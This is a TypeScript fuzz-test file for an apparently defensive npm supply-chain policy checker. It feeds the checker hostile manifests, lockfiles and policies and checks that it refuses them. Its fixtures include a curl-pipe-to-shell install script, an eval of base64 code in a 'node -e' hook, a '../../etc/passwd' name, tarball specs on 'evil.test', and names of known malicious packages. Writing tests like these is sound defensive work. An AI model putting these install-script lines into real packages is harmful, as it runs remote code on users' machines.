/**
 * Property-based tests over hostile input (fast-check): manifests as PackageFacts, lockfile
 * entries, and policies, with `__proto__`/`constructor` keys, huge and odd strings, control and
 * bidi characters, homoglyphs, case variants and deep nesting. Shared by test/fuzz/fuzz.test.ts (a
 * few thousand cases in CI) and bench/fuzz.mjs (1,000,000 cases, not in CI). Each property has a
 * share of the run count.
 */
import fc from 'fast-check';
import { compilePolicy, defaultPolicy, evaluate, findDuplicateKey, parsePolicy, PolicyError, type PackageFacts, type Policy, type Verdict } from '@lifeguard/core';
import { readNpmLock } from '../../packages/cli/src/lockfiles/npm';
import { readYarnLock } from '../../packages/cli/src/lockfiles/yarn';
import { readPnpmLock } from '../../packages/cli/src/lockfiles/pnpm';
import { LockfileError } from '../../packages/cli/src/lockfiles/types';
import { parseLockfileText, readLockfileObject } from '../../packages/pnpm-hook/src/lockfile';

// ------------------------------------------------------------------------------- arbitraries

const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__'];
const KNOWN = ['event-stream', 'flatmap-stream', 'expres', 'crossenv', 'express', 'lodash', '@types/node', '@typess/node', 'ua-parser-js', 'nx'];
const ODD_CHARS = ['\u0000', '\u0007', '\n', '\r', '\t', '\u001b', '\u202e', '\u200b', '\ufeff', '\u0430', '\u0435', '\u03bf', 'ı', 'ß', 'ﬁ', '"', '\\', '/', '@', ':', '#', '%', ' ', '*', '!', 'a', 'z', '0', '-', '.', '_'];

/** Upper/lower case flipped at random positions (`Event-STREAM`). */
const caseVariant = (s: string) => fc.array(fc.boolean(), { minLength: s.length, maxLength: s.length }).map((flips) => [...s].map((c, i) => (flips[i] ? c.toUpperCase() : c.toLowerCase())).join(''));

const validName = fc.stringMatching(/^(@[a-z0-9][a-z0-9-]{0,8}\/)?[a-z0-9][a-z0-9._-]{0,20}$/);
const oddString = fc.string({ unit: fc.constantFrom(...ODD_CHARS), maxLength: 40 });
const HUGE = 'x'.repeat(100_000);

export const hostileName = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...PROTO_KEYS, ...KNOWN) },
  { weight: 2, arbitrary: fc.constantFrom(...KNOWN).chain(caseVariant) },
  { weight: 3, arbitrary: validName },
  { weight: 2, arbitrary: oddString },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', HUGE, `@${HUGE}/x`, '@', '@/', '@a/', '../../etc/passwd') },
);

const version = fc.oneof(
  fc.tuple(fc.nat(40), fc.nat(40), fc.nat(40)).map(([a, b, c]) => `${a}.${b}.${c}`),
  fc.constantFrom('3.3.6', '0.1.1', '1.0.0', '0.0.0-__proto__', 'latest', '*', '', HUGE, '1.0.0(peer@2.0.0)', 'git+ssh://git@h/x.git#abc'),
  oddString,
);

const depSpec = fc.oneof(
  fc.constantFrom(
    '^1.0.0', '1.0.0', 'latest', 'npm:lodash@^4', 'npm:x@https://evil.test/x.tgz', 'github:evil/x', 'evil/x#main', 'git+ssh://git@h/x.git',
    'https://evil.test/x.tgz', 'file:../x', 'link:../x', 'portal:../x', 'workspace:*', 'exec:./gen.js',
    'patch:x@npm%3A1.0.0#./evil.patch', 'patch:x@npm%3A1.0.0#./e.patch::locator=p%40npm%3A1.0.0', 'patch:typescript@npm%3A^5#optional!builtin<compat/typescript>',
    'patch:x@npm%3A1.0.0#~/.yarn/patches/x.patch', 'patch:', 'patch:@', 'patch:x@%E0%A4%A#./p.patch', 'npm:', HUGE,
  ),
  oddString,
);

/** A plain object built with CreateDataProperty (JSON.parse does the same): `__proto__` becomes an own key. */
const hostileRecord = <V>(key: fc.Arbitrary<string>, value: fc.Arbitrary<V>) => fc.array(fc.tuple(key, value), { maxLength: 6 }).map((pairs) => Object.fromEntries(pairs) as Record<string, V>);

const scriptName = fc.oneof(fc.constantFrom('preinstall', 'install', 'postinstall', 'prepare', 'Postinstall', ...PROTO_KEYS), oddString);
const scriptBody = fc.oneof(fc.constantFrom('node install.js', 'curl https://x.test/p.sh | sh', "node -e \"eval(Buffer.from('YQ==','base64').toString())\"", '', ' ', HUGE), oddString);
const sourceKind = fc.constantFrom('registry', 'git', 'tarball', 'file', 'link', 'workspace', 'patch', 'exec');

export const hostileFacts: fc.Arbitrary<PackageFacts> = fc.record(
  {
    name: hostileName,
    version,
    source: sourceKind,
    resolved: fc.oneof(depSpec, fc.constant('patch:x@npm%3A1.0.0#./e.patch::version=1.0.0&hash=1&locator=p%40npm%3A1.0.0')),
    dependencies: hostileRecord(hostileName, depSpec),
    scripts: hostileRecord(scriptName, scriptBody),
    hasInstallScript: fc.boolean(),
    hasBindingGyp: fc.boolean(),
    workspace: fc.boolean(),
    requiredBy: fc.array(hostileName, { maxLength: 3 }),
  },
  { requiredKeys: ['name', 'version'] },
);

const policySpec = fc.oneof(
  validName,
  fc.tuple(validName, fc.constantFrom('^1.0.0', '1.0.0 || 2.0.0', '>=0', '3.3.6')).map(([n, r]) => `${n}@${r}`),
  fc.constantFrom('@acme/*', '*', '**', '{a,b}', '!x', '[', '@', 'x@', 'x@^^1', ' x', '__proto__', 'constructor', HUGE),
  hostileName,
);
const specEntry = fc.oneof(policySpec, fc.record({ package: policySpec, reason: oddString, source: fc.oneof(depSpec, fc.constant('**')) }, { requiredKeys: ['package'] }));
const specList = fc.array(specEntry, { maxLength: 4 });

/** Policy-shaped documents: mostly valid, with hostile values and keys mixed in. */
export const policyDoc = fc.record(
  {
    $schema: fc.string(),
    mode: fc.constantFrom('enforce', 'warn', 'Enforce', '__proto__'),
    scripts: fc.record({ unapproved: fc.constantFrom('skip', 'refuse', 'run', 'SKIP'), allow: specList, deny: specList }, { requiredKeys: [] }),
    packages: fc.record({ deny: specList, trust: specList }, { requiredKeys: [] }),
    typosquat: fc.record({ action: fc.constantFrom('refuse', 'warn', 'off', 'nope'), ignore: fc.array(hostileName, { maxLength: 3 }) }, { requiredKeys: [] }),
    sources: fc.record({ exotic: fc.constantFrom('refuse', 'warn', 'off'), allow: fc.array(fc.oneof(depSpec, fc.constant('')), { maxLength: 3 }) }, { requiredKeys: [] }),
    releaseAge: fc.record({ minimum: fc.constantFrom('3d', '90m', '1w', '0m', '-1d', '999999d', 'soon'), exclude: specList }, { requiredKeys: [] }),
    ['__proto__']: fc.jsonValue({ maxDepth: 2 }),
    constructor: fc.jsonValue({ maxDepth: 1 }),
  },
  { requiredKeys: [] },
);

/** Text that is a policy or nearly one: JSON of a policy doc, any JSON, a duplicate key, garbage, deep nesting. */
const policyText = fc.oneof(
  { weight: 4, arbitrary: policyDoc.map((d) => JSON.stringify(d)) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('mode', 'scripts', 'packages', '__proto__'), fc.jsonValue({ maxDepth: 2 })).map(([k, v]) => `{"${k}":${JSON.stringify(v)},"${k}":{}}`) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.nat(20_000).map((n) => `${'['.repeat(n)}${']'.repeat(n)}`) },
  { weight: 1, arbitrary: fc.nat(5_000).map((n) => `{"a":${'{"a":'.repeat(n)}1${'}'.repeat(n)}}`) },
);

// ------------------------------------------------------------------------------- checks

const DECISIONS = new Set(['allow', 'strip', 'refuse']);

function saneVerdict(v: Verdict): boolean {
  if (!DECISIONS.has(v.decision) || typeof v.runScripts !== 'boolean') return false;
  if (v.decision === 'refuse' && !v.findings.some((f) => f.action === 'refuse')) return false;
  if (v.runScripts && v.lifecycle.length === 0) return false;
  return v.findings.every((f) => typeof f.message === 'string' && typeof f.fix === 'string' && f.code.startsWith('LIFEGUARD_'));
}

/** A compiled policy or a PolicyError: anything else thrown is a bug. */
function compileOrPolicyError(text: string): Policy | PolicyError {
  try {
    return compilePolicy(parsePolicy(text, '/fuzz/lifeguard.json'));
  } catch (e) {
    if (e instanceof PolicyError) return e;
    throw e;
  }
}

const reversed = <V>(r: Readonly<Record<string, V>> | undefined): Record<string, V> | undefined =>
  r === undefined ? undefined : (Object.fromEntries(Object.entries(r).reverse()) as Record<string, V>);

const policies: Policy[] = [
  defaultPolicy(),
  compilePolicy(parsePolicy(JSON.stringify({ scripts: { unapproved: 'refuse', allow: ['esbuild', { package: 'x', source: '**' }] }, packages: { deny: ['event-stream'] } }), '/fuzz/a.json')),
  compilePolicy(parsePolicy(JSON.stringify({ mode: 'warn' }), '/fuzz/warn.json')),
  compilePolicy(parsePolicy(JSON.stringify({ scripts: { unapproved: 'run' }, sources: { exotic: 'off' }, typosquat: { action: 'off' } }), '/fuzz/open.json')),
];
const somePolicy = fc.constantFrom(...policies);

const pollutionFree = (): boolean => {
  const probe = {} as Record<string, unknown>;
  return probe.polluted === undefined && probe.name === undefined && Object.keys(Object.prototype).length === 0;
};

export interface FuzzProperty {
  readonly name: string;
  /** Fraction of the run count this property gets. */
  readonly share: number;
  readonly property: fc.IProperty<never> | fc.IProperty<unknown[]>;
}

export const properties: readonly FuzzProperty[] = [
  {
    name: 'evaluate never throws on hostile facts and returns a consistent verdict',
    share: 0.25,
    property: fc.property(somePolicy, hostileFacts, (policy, facts) => saneVerdict(evaluate(policy, facts)) && pollutionFree()),
  },
  {
    name: 'key order of dependencies and scripts does not change the verdict (a normalised manifest gets the same answer)',
    share: 0.15,
    property: fc.property(somePolicy, hostileFacts, (policy, facts) => {
      const a = evaluate(policy, facts);
      const b = evaluate(policy, { ...facts, ...(facts.dependencies ? { dependencies: reversed(facts.dependencies)! } : {}), ...(facts.scripts ? { scripts: reversed(facts.scripts)! } : {}) });
      return a.decision === b.decision && a.runScripts === b.runScripts && a.findings.map((f) => f.code).sort().join() === b.findings.map((f) => f.code).sort().join();
    }),
  },
  {
    name: 'packages.deny always wins: whatever else the policy and the manifest say, a denied name is refused',
    share: 0.15,
    property: fc.property(policyDoc, validName, hostileFacts, (doc, name, facts) => {
      const json = { ...doc, mode: 'enforce', packages: { ...(typeof doc.packages === 'object' ? doc.packages : {}), deny: [name] } };
      const compiled = compileOrPolicyError(JSON.stringify(json));
      if (compiled instanceof PolicyError) return true;
      return evaluate(compiled, { ...facts, name, workspace: false }).decision === 'refuse';
    }),
  },
  {
    name: 'a case variant of a denied or known-malicious name is refused too (npm folds case; the normalised name is what the registry serves)',
    share: 0.05,
    property: fc.property(fc.constantFrom('event-stream', 'flatmap-stream', 'lg-denied').chain((n) => fc.tuple(fc.constant(n), caseVariant(n))), ([name, variant]) => {
      const policy = policies[1]!;
      const version = name === 'flatmap-stream' ? '0.1.1' : '3.3.6';
      const lower = evaluate(compilePolicy(parsePolicy(JSON.stringify({ packages: { deny: ['lg-denied'] } }), '/fuzz/d.json')), { name, version });
      const upper = evaluate(compilePolicy(parsePolicy(JSON.stringify({ packages: { deny: ['lg-denied'] } }), '/fuzz/d.json')), { name: variant, version });
      return lower.decision === 'refuse' && upper.decision === 'refuse' && evaluate(policy, { name: variant, version }).decision === evaluate(policy, { name, version }).decision;
    }),
  },
  {
    name: 'every policy text either compiles or fails with a PolicyError naming the file',
    share: 0.2,
    property: fc.property(policyText, (text) => {
      const r = compileOrPolicyError(text);
      return (r instanceof PolicyError ? r.message.includes('/fuzz/lifeguard.json') : true) && pollutionFree();
    }),
  },
  {
    name: 'duplicate keys: found in any object at any depth, however the second one is spelled (escapes, spaces before the colon); never reported for JSON.stringify output',
    share: 0.05,
    property: fc.property(fc.jsonValue({ maxDepth: 3 }), fc.string({ unit: fc.constantFrom('a', 'b', '_', '"', '\\', 'é', '\u0000', ':'), minLength: 1, maxLength: 6 }), fc.boolean(), fc.boolean(), (value, key, escape, spaced) => {
      const clean = JSON.stringify(value);
      if (findDuplicateKey(clean, JSON.parse(clean)) !== undefined) return false;
      // `{"k": …, <value's members>, "k": …}` nested under a wrapper, the second key written differently.
      const second = escape ? `"${[...key].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"` : JSON.stringify(key);
      const text = `{"wrap":[0,{${JSON.stringify(key)}:1,"x":${clean},${second}${spaced ? ' \n :' : ':'}2}]}`;
      const dup = findDuplicateKey(text, JSON.parse(text));
      return dup !== undefined && dup.key === key && dup.path.startsWith('$.wrap[1]');
    }),
  },
  {
    name: 'lockfile entries: readers return facts that evaluate, or fail with a LockfileError; a denied release among hostile entries is refused',
    share: 0.15,
    property: fc.property(
      hostileRecord(fc.oneof(hostileName.map((n) => `node_modules/${n}`), hostileName), fc.record({ version, resolved: depSpec, hasInstallScript: fc.boolean(), link: fc.boolean(), dependencies: hostileRecord(hostileName, depSpec) }, { requiredKeys: [] })),
      fc.constantFrom('npm', 'npm-v1', 'yarn', 'pnpm', 'pnpm-v6', 'pnpm-hook'),
      (entries, kind) => {
        const policy = policies[1]!;
        const packages = { ...entries, 'node_modules/event-stream': { version: '3.3.6', resolved: 'https://registry.npmjs.org/event-stream/-/event-stream-3.3.6.tgz' } };
        let facts: PackageFacts[];
        try {
          if (kind === 'npm') facts = readNpmLock(JSON.stringify({ lockfileVersion: 3, packages: { '': {}, ...packages } }), 'package-lock.json').packages;
          else if (kind === 'npm-v1') {
            const tree = Object.fromEntries(Object.entries(packages).map(([k, v]) => [k.replace(/^node_modules\//, ''), { version: v.version, resolved: v.resolved, requires: (v as { dependencies?: unknown }).dependencies }]));
            facts = readNpmLock(JSON.stringify({ lockfileVersion: 1, dependencies: tree }), 'package-lock.json').packages;
          } else if (kind === 'pnpm-v6') {
            const body = Object.entries(packages).map(([k, v]) => `  ${JSON.stringify(`/${k.replace(/^node_modules\//, '')}@${String(v.version ?? '')}`)}:\n    resolution: {integrity: sha512-x}\n`).join('');
            facts = readPnpmLock(`lockfileVersion: '6.0'\n\npackages:\n\n${body}`, 'pnpm-lock.yaml').packages;
          } else if (kind === 'yarn') {
            const text = Object.entries(packages).map(([k, v]) => `${JSON.stringify(`${k.replace(/^node_modules\//, '')}@npm:${String(v.version ?? '')}`)}:\n  version: ${JSON.stringify(String(v.version ?? ''))}\n  resolution: ${JSON.stringify(`${k.replace(/^node_modules\//, '')}@npm:${String(v.version ?? '')}`)}\n`).join('\n');
            facts = readYarnLock(`__metadata:\n  version: 8\n\n${text}`, 'yarn.lock').packages;
          } else {
            const body = Object.entries(packages).map(([k, v]) => `  ${JSON.stringify(`${k.replace(/^node_modules\//, '')}@${String(v.version ?? '')}`)}:\n    resolution: {integrity: sha512-x}\n`).join('');
            const text = `lockfileVersion: '9.0'\n\nimporters:\n\n  .: {}\n\npackages:\n\n${body}\nsnapshots:\n\n${Object.keys(packages).map((k) => `  ${JSON.stringify(`${k.replace(/^node_modules\//, '')}@x`)}: {}\n`).join('')}`;
            facts = kind === 'pnpm' ? readPnpmLock(text, 'pnpm-lock.yaml').packages : readLockfileObject(parseLockfileText(text)).map((p) => ({ name: p.name, version: p.version, source: p.source }));
          }
        } catch (e) {
          return e instanceof LockfileError && pollutionFree();
        }
        const verdicts = facts.map((f) => evaluate(policy, f));
        const stream = facts.findIndex((f) => f.name === 'event-stream' && f.version === '3.3.6');
        return verdicts.every(saneVerdict) && stream !== -1 && verdicts[stream]!.decision === 'refuse' && pollutionFree();
      },
    ),
  },
];
